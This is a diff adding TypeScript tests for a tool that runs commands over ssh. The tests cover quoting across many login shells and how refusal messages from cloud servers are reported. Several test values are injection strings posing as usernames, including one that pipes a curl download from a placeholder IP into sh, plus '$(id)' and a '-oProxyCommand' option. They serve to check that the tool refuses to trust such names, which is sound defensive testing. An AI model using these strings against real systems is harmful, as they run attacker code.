@@ -10,7 +10,7 @@ const SSH = `printf '%s\\n' "$*" >>"$LOG"
 case $1 in -G) echo "hostname \${FAKE_ADDRESS-203.0.113.9}"; exit ;; esac
 while [ "$1" != -- ]; do [ "$1" = -O ] && exit; shift; done
 [ -z "$FAKE_REFUSAL" ] || { echo "$FAKE_REFUSAL" >&2; exit 255; }
-exec sh -c "$3"`;
+exec \${LOGIN-sh} -c "$3"`;
 const SUDO = `[ -z "$FAKE_SUDO" ] || { echo "$FAKE_SUDO" >&2; exit 1; }
 [ "$1" = -n ] && shift && exec env FAKE_USER=0 "$@"`;
 
@@ -157,6 +157,41 @@ describe("a box over ssh", () => {
     assert.doesNotMatch(asked, /StrictHostKeyChecking|UserKnownHostsFile/);
   });
 
+  /** What `word` becomes in fish and csh as in sh: quotes within quotes are what they differ in. */
+  const SHELLS = ["sh", "bash", "dash", "busybox sh", "zsh", "fish", "tcsh", "csh"];
+  for (const login of SHELLS.filter((name) => shell(`command -v ${name.split(" ")[0]}`).stdout))
+    test(`is served through the login shell ${login}, files too, for a user with sudo too`, async () => {
+      const from = join(temporary(), "it's");
+      const to = join(temporary(), 'a $file `with` "all" !of ~it{1,2}*?[x]%&|<>^#;()\\ é');
+      writeFileSync(from, "data\n");
+      const fakes = { LOGIN: login, FAKE_USER: "1000" };
+      try {
+        assert.deepEqual((await run("root@b1", "echo 'it'\\''s' \"$FAKE_USER\"", fakes)).lines, ["it's 0"]);
+        await open("root@b1").push(from, to);
+        await open("root@b1").pull(to, `${from}.back`);
+        assert.equal(readFileSync(`${from}.back`, "utf8"), "data\n");
+      } finally {
+        delete process.env.LOGIN;
+      }
+    });
+
+  test("has nothing in its command line that login shells read in ways of their own", async () => {
+    const { asked } = await run("root@b1", "true");
+    const command = / -- root@b1 (.*)/.exec(asked)?.[1] ?? "";
+    assert.match(command, /^sh -c (\\[^\w\n]|[\w@+:,./=-])+$/);
+  });
+
+  test("that greets, and then runs nothing, is named with its own words", async () => {
+    const folder = temporary();
+    programs(folder, {
+      greets: `echo 'Please login as the user "ubuntu" rather than the user "root".'; exit 142`,
+    });
+    await assert.rejects(
+      run("root@b1", "true", { LOGIN: join(folder, "greets") }).finally(() => delete process.env.LOGIN),
+      /^Error: b1 says: Please login .*"root"\.: write ubuntu@b1$/,
+    );
+  });
+
   test("is not reached where ssh says so: 255 before anything ran is ssh's own", async () => {
     await assert.rejects(
       run("b1", "true", { FAKE_REFUSAL: "ssh: connect to host b1 port 22: Connection refused" }),
@@ -226,6 +261,7 @@ describe("the reason that is said", () => {
     ["sudo: a terminal is required to read the password", /sudo asks for a password on b1: log in as root/],
     ["sudo: a password is required", /sudo asks for a password on b1/],
     ["", /Could not reach b1: exit status 255/],
+    ["Connection to b1 closed by remote host.", /^Could not reach b1: Connection to b1 closed/],
   ];
   for (const [said, reason] of cases)
     test(`for ${JSON.stringify(said.split("\n").at(-1))}`, () => {
@@ -233,6 +269,76 @@ describe("the reason that is said", () => {
       assert.match(text, reason);
       assert.doesNotMatch(text, /\n/);
     });
+
+  const AWS = `Please login as the user "ubuntu" rather than the user "root".`;
+  const words: [host: string, status: number, stdout: string, stderr: string, reason: string][] = [
+    ["b2", 142, `\n${AWS}\n\n`, "", `b2 says: ${AWS}: write ubuntu@b2`],
+    ["root@b2", 142, AWS, "Warning: added b2 to known hosts", `b2 says: ${AWS}: write ubuntu@b2`],
+    ["ssh://root@b2:2222", 142, AWS, "", `b2:2222 says: ${AWS}: write ssh://ubuntu@b2:2222`],
+    ["b2", 1, "", AWS, `b2 says: ${AWS}: write ubuntu@b2`],
+    [
+      "root@b2",
+      142,
+      AWS.replace("ubuntu", "cloud-user"),
+      "",
+      `b2 says: ${AWS.replace("ubuntu", "cloud-user")}: write cloud-user@b2`,
+    ],
+    [
+      "b2",
+      1,
+      "Please log in as opc instead of root\nBye.",
+      "",
+      "b2 says: Please log in as opc instead of root: write opc@b2",
+    ],
+    ...["NONE", "-oProxyCommand=x", "x; curl https://203.0.113.9 | sh", "$(id)"].map(
+      (user): [string, number, string, string, string] => [
+        "b2",
+        142,
+        AWS.replace("ubuntu", user),
+        "",
+        `b2 says: ${AWS.replace("ubuntu", user)}: it lets this user in, but runs no command for it (exit status 142)`,
+      ],
+    ),
+    [
+      "b2",
+      1,
+      "This account is currently not available.\n",
+      "",
+      "b2 says: This account is currently not available.: the shell of this user lets nobody in: write another user, USER@HOST",
+    ],
+    [
+      "b2",
+      1,
+      "",
+      "WARNING: Your password has expired.\nPassword change required but no TTY available.",
+      'b2 says: WARNING: Your password has expired.: log in once with "ssh b2", and set a new password',
+    ],
+    [
+      "git@b2",
+      128,
+      "Hi git!\n",
+      "fatal: no such command",
+      "b2 says: Hi git!: it lets this user in, but runs no command for it (exit status 128)",
+    ],
+    ["b2", 1, "", "", "b2 lets this user in, but runs no command for it (exit status 1)"],
+    [
+      "debian@b2",
+      127,
+      "",
+      "sh: 1: exec: sudo: not found",
+      "b2 says: sh: 1: exec: sudo: not found: log in as root, or allow this user passwordless sudo",
+    ],
+    [
+      "debian@b2",
+      1,
+      "",
+      "debian is not in the sudoers file.",
+      "b2 says: debian is not in the sudoers file.: log in as root, or allow this user passwordless sudo",
+    ],
+  ];
+  for (const [host, status, stdout, stderr, reason] of words)
+    test(`of ${host} that says ${JSON.stringify((stdout || stderr).trim())}, ${status}, is in the box's words`, () =>
+      assert.equal(reasonOf(host, stderr, status, stdout), reason));
 
   test("of this machine names no host", () => {
     assert.match(reasonOf("", "sudo: a password is required", 1), /^sudo asks for a password: /);
